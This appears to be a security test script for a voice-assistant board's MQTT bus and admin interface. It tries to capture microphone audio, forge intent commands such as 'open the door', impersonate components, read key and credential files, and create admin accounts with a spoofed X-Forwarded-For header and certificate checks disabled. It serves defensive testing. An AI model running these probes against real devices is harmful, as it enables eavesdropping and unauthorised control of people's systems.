/**
 * What an ordinary account of a board tries, with nothing but sockets and files. Each gain is a line "gained …"; the last line
 * is "done". usage: attack.mjs listen|speak|files|sign-up [ADDRESS], as the account; or observe SOCKET SECONDS, as somebody
 * who may hear everything.
 */
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { connect as connectTls } from "node:tls";

const [what = "", ...rest] = process.argv.slice(2);
const say = (line) => process.stdout.write(`${line}\n`);
const gained = (line) => say(`gained ${line}`);
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

/** MQTT 3.1.1, as little of it as is needed. */
const text = (value) => Buffer.concat([Buffer.from([value.length >> 8, value.length & 255]), Buffer.from(value)]);
function packet(first, ...parts) {
  const body = Buffer.concat(parts);
  const length = [];
  let left = body.length;
  do {
    length.push((left & 127) | (left > 127 ? 128 : 0));
    left >>= 7;
  } while (left > 0);
  return Buffer.concat([Buffer.from([first, ...length]), body]);
}
const hello = (user, id) =>
  packet(
    0x10,
    text("MQTT"),
    Buffer.from([4, user === undefined ? 2 : 0x82, 0, 60]),
    text(id ?? `a${process.pid}${Math.random()}`),
    ...(user === undefined ? [] : [text(user)]),
  );
const subscribe = (filter) => packet(0x82, Buffer.from([0, 1]), text(filter), Buffer.from([1]));
const publish = (topic, payload, retain = false) =>
  packet(retain ? 0x33 : 0x32, text(topic), Buffer.from([0, 2]), Buffer.from(payload));

/** Resolves to what comes, until it closes: `hear(type, topic, payload)`. */
function client(where, { user, id, hear = () => undefined } = {}) {
  return new Promise((resolve) => {
    const socket = connect(where);
    let bytes = Buffer.alloc(0);
    let isIn = false;
    const answers = [];
    const it = { socket, answers, code: undefined };
    socket.on("connect", () => socket.write(hello(user, id)));
    socket.on("error", (error) => {
      it.code ??= error.code;
      resolve(it);
    });
    socket.on("close", () => resolve(it));
    socket.on("data", (chunk) => {
      bytes = Buffer.concat([bytes, chunk]);
      for (;;) {
        let [length, at, shift] = [0, 1, 0];
        for (; at < bytes.length; at += 1, shift += 7) {
          length |= (bytes[at] & 127) << shift;
          if (bytes[at] < 128) break;
        }
        if (at >= bytes.length || bytes.length < at + 1 + length) return;
        const [kind, flags] = [bytes[0] >> 4, bytes[0] & 15];
        const body = bytes.subarray(at + 1, at + 1 + length);
        bytes = bytes.subarray(at + 1 + length);
        if (kind === 2 && !isIn) {
          isIn = true;
          it.code = body[1];
          resolve(it);
        } else if (kind === 9) answers.push(body[2]);
        else if (kind === 3) {
          const end = 2 + body.readUInt16BE(0);
          const topic = body.subarray(2, end).toString();
          const from = end + ((flags & 6) === 0 ? 0 : 2);
          if ((flags & 6) !== 0) socket.write(packet(0x40, body.subarray(end, end + 2)));
          hear(topic, body.subarray(from));
        }
      }
    });
  });
}

const bus = { host: "127.0.0.1", port: 1883 };
const isSound = (topic, payload) =>
  /audioFrame|replayResponse|playBytes/u.test(topic) || payload.subarray(0, 4).toString() === "RIFF";

const attacks = {
  /** The microphones: by every filter, by asking for what was said before, and as another client. */
  async listen() {
    let [sounds, others] = [0, 0];
    const hear = (topic, payload) => (isSound(topic, payload) ? (sounds += 1) : (others += 1));
    const it = await client(bus, { hear });
    say(`let in with code ${it.code}`);
    for (const [index, filter] of [
      "#",
      "msg/#",
      "+/audioServer/+/#",
      "msg/audioServer/+/audioFrame",
      "msg/audioServer/+/replayResponse",
    ].entries()) {
      it.socket.write(subscribe(filter));
      for (let tries = 0; tries < 300 && it.answers.length <= index; tries += 1) await pause(100);
    }
    say(`answers ${it.answers.join(" ")}`);
    it.socket.write(publish("msg/audioServer/default/replayRequest", '{"requestId":"r","siteId":"default"}'));
    it.socket.write(publish("msg/asr/versionRequest", ""));
    await pause(5000);
    say(`heard ${others} others`);
    if (sounds > 0) gained(`${sounds} sounds`);
    if (it.answers.slice(3).some((code) => code !== 0x80)) gained("a subscription to sound");
    for (const user of ["asr", "supervisor", "audio-server", "skill-clock", "satellite-x"]) {
      const as = await client(bus, { user, id: user });
      if (as.code === 0) gained(`a connection as ${user}`);
      as.socket.destroy();
    }
    it.socket.destroy();
  },

  /** A component's words; whoever hears everything sees whether they came through. */
  async speak() {
    const it = await client(bus);
    const forged = {
      "intent/mallory":
        '{"sessionId":"mallory","input":"open the door","intent":{"intentName":"mallory","confidenceScore":1}}',
      "asr/textCaptured": '{"text":"mallory","likelihood":1,"seconds":1,"siteId":"default"}',
      "hotword/default/detected": '{"siteId":"default","modelId":"mallory"}',
      "nlu/intentParsed": '{"input":"mallory","intent":{"intentName":"mallory"},"sessionId":"mallory"}',
      "dialogueManager/sessionEnded": '{"sessionId":"mallory","termination":{"reason":"nominal"}}',
      "component/asr/status": '{"state":"mallory"}',
      "audioServer/default/audioFrame": "mallory",
      "asr/reload": '{"id":"mallory"}',
    };
    for (const [topic, payload] of Object.entries(forged)) it.socket.write(publish(`msg/${topic}`, payload));
    it.socket.write(publish("msg/nlu/query", '{"input":"mallory stays","sessionId":"m"}', true));
    await pause(500);
    it.socket.write(publish("msg/nlu/query", '{"input":"mallory asks","sessionId":"m"}'));
    await pause(1000);
    it.socket.destroy();
  },

  /** Sockets and files of the platform. */
  async files() {
    for (const path of ["/run/sotto/bus.sock", "/run/sotto/admin.sock", "/run/sotto/skills/clock/bus.sock"]) {
      const it = await client({ path });
      if (it.code === undefined || it.code === 0) gained(`a connection to ${path}`);
      it.socket.destroy();
    }
    for (const path of [
      "/var/lib/sotto/sotto.db",
      "/var/lib/sotto/setup-code",
      "/var/lib/sotto/tls/ca-key.pem",
      "/etc/sotto/platform.toml",
      "/run/sotto/control.json",
    ])
      try {
        readFileSync(path);
        gained(`the content of ${path}`);
      } catch {
        // refused, as it should be
      }
    for (const folder of ["/var/lib/sotto", "/run/sotto", "/etc/sotto", "/var/lib/sotto/apt/requests"]) {
      try {
        readdirSync(folder);
        gained(`a list of ${folder}`);
      } catch {
        // refused, as it should be
      }
      try {
        writeFileSync(`${folder}/mallory`, "x");
        gained(`a file in ${folder}`);
      } catch {
        // refused, as it should be
      }
    }
  },

  /** An account, by every address of the board; also with a socket that is gone when it is looked at. */
  async "sign-up"(address) {
    let number = 0;
    const ask = (host, { leave = false, headers = "" } = {}) =>
      new Promise((resolve) => {
        const login = `mallory${(number += 1)}`;
        const body = JSON.stringify({ login, password: "long enough" });
        const socket = connectTls({ host, port: 8443, rejectUnauthorized: false, servername: "localhost" }, () => {
          const head = `POST /admin/user HTTP/1.1\r\nHost: localhost:8443\r\nContent-Type: application/json\r\n${headers}`;
          socket.write(`${head}Content-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`, () => {
            if (leave) socket.destroy();
          });
        });
        let answer = "";
        socket.on("data", (chunk) => (answer += chunk));
        socket.on("error", () => undefined);
        socket.on("close", () => {
          const status = Number(/^HTTP\/1\.1 (\d+)/u.exec(answer)?.[1] ?? 0);
          say(`${login} by ${host}: ${status}`);
          if (status === 201) gained(`the account ${login} by ${host}`);
          resolve(status);
        });
      });
    for (const host of ["127.0.0.1", "::1", "127.0.0.9", address]) await ask(host);
    for (let tries = 0; tries < 5; tries += 1) await ask("127.0.0.1", { leave: true });
    await ask("127.0.0.1", { headers: "X-Forwarded-For: 127.0.0.1\r\n" });
    for (let tries = 0; tries < 10; tries += 1) await ask(address);
  },

  /** Not an attack: says what came through of one. */
  async observe(path, seconds) {
    const it = await client(
      { path },
      {
        hear: (topic, payload) =>
          (payload.includes("mallory") || isSound(topic, payload)) &&
          seen.add(`${topic} ${isSound(topic, payload) ? "" : payload}`),
      },
    );
    const seen = new Set();
    say(`let in with code ${it.code}`);
    it.socket.write(subscribe("msg/#"));
    await pause(Number(seconds) * 1000);
    for (const one of seen) say(`heard ${one}`);
    it.socket.destroy();
  },
};

await attacks[what](...rest);
say("done");
process.exit(0);
